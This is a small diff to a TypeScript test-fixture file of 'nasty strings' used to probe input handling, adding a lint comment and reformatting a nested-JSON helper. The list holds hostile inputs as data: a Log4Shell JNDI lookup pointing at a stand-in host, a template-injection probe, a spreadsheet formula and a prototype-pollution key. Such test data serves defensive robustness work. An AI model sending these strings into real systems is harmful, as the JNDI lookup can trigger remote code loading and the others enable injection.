@@ -138,6 +138,7 @@ export const NASTY_STRINGS: readonly string[] = [
   '+1',
   '-1',
   '@SUM(A1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string, literally
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '__proto__',
@@ -236,7 +237,9 @@ export function deepArray(depth: number): unknown {
 
 /** `depth` nested arrays or objects as JSON text, however deep. */
 export function deepJson(depth: number, kind: 'array' | 'object' = 'array'): string {
-  return kind === 'array' ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
+  return kind === 'array'
+    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
+    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
 }
 
 export function deepObject(depth: number): unknown {
